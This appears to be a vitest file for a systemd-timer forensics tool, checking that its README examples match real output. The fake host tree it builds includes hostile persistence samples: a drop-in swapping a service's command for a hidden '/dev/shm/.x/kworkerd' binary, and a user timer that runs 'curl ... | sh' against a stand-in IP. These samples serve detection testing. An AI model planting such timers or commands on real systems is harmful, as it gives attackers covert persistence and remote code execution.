/** What the README shows is what the program says: its blocks of output, its commands, its library example. */
import { existsSync, readFileSync, rmSync } from "node:fs";
import { join } from "node:path";
import { afterAll, describe, expect, test } from "vitest";
import { writeTree } from "../src/hosts/real-tree.test-support.ts";
import { cli } from "./cli.ts";

const PROJECT = join(import.meta.dirname, "..");
const README = readFileSync(join(PROJECT, "README.md"), "utf8");

/** The host of the examples: two hostile timers and one of a vendor's kind. */
const UNITS = "/etc/systemd/system";
const ALICE = "/home/alice/.config/systemd/user";
const install = "[Install]\nWantedBy=timers.target\n";
const evidence = writeTree({
  "/etc/hostname": "web-03\n",
  "/etc/os-release": 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\n',
  "/etc/passwd": "root:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/bash\n",
  "/usr/lib/systemd/libsystemd-shared-252.so": "",
  "/usr/lib/systemd/systemd": "",
  "/usr/lib/systemd/system/default.target": { link: "graphical.target" },
  "/usr/lib/systemd/system/graphical.target": "[Unit]\nRequires=multi-user.target\n",
  "/usr/lib/systemd/system/multi-user.target": "[Unit]\nWants=timers.target\n",
  "/usr/lib/systemd/system/timers.target": "[Unit]\n",
  [`${UNITS}/backup.timer`]: `[Timer]\nOnCalendar=*:0/17\n${install}`,
  [`${UNITS}/backup.service`]: "[Service]\nExecStart=/usr/local/bin/backup\n",
  [`${UNITS}/backup.service.d/a.conf`]: "[Service]\nExecStart=\nExecStart=/dev/shm/.x/kworkerd\n",
  [`${UNITS}/timers.target.wants/backup.timer`]: { link: "../backup.timer" },
  [`${UNITS}/logs.timer`]: `[Timer]\nOnCalendar=daily\n${install}`,
  [`${UNITS}/logs.service`]: "[Service]\nExecStart=/usr/bin/true\n",
  [`${UNITS}/timers.target.wants/logs.timer`]: { link: "../logs.timer" },
  "/usr/bin/true": { content: "\u007fELF", mode: 0o755 },
  [`${ALICE}/sync.timer`]: `[Timer]\nOnCalendar=minutely\n${install}`,
  [`${ALICE}/sync.service`]: "[Service]\nExecStart=/bin/sh -c 'curl -s http://192.0.2.7/x | sh'\n",
  [`${ALICE}/timers.target.wants/sync.timer`]: { link: "../sync.timer" },
});
afterAll(() => rmSync(evidence, { recursive: true, force: true }));

/** Every block that begins with a prompt: the command's words, and what is shown below. */
const BLOCKS = [...README.matchAll(/```\n\$ timerwarden (.*)\n([\s\S]*?)```/g)].map(
  ([, line = "", shown = ""]) => ({ line, shown }),
);

/** As a shell takes them apart. */
function words(line: string): string[] {
  return [...line.matchAll(/'([^']*)'|(\S+)/g)].map(([, quoted, plain]) => quoted ?? plain ?? "");
}

test("there are blocks to look at", () => expect(BLOCKS.length).toBe(3));

test.each(BLOCKS)("timerwarden $line", ({ line, shown }) => {
  const args = words(line).map((word) => (word === "root:evidence" ? `root:${evidence}` : word));
  const { out } = cli(
    args,
    line.startsWith("calendar") ? {} : { TIMERWARDEN_NOW: "2026-11-23 06:00:30 UTC" },
  );
  expect(out).toContain(shown.trimEnd());
});

describe("what it names is there", () => {
  test.each([...README.matchAll(/\]\((?!https?:)([^)#]+)/g)].map(([, path = ""]) => path))("%s", (path) => {
    expect(existsSync(join(PROJECT, path))).toBe(true);
  });
});
